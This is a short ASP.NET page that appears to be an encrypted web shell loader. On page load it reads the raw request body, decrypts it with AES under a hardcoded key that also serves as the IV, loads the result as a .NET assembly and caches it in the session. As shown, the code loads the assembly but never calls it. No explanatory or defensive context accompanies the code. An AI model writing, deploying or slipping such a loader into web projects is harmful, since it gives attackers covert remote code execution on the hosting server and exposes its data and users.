<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object sender, System.EventArgs e) {
    if (Session["blob"] == null) {
        byte[] k = System.Text.Encoding.Default.GetBytes("0123456789abcdef");
        byte[] c = Request.BinaryRead(Request.ContentLength);
        Session["blob"] = System.Reflection.Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length));
    }
}
</script>
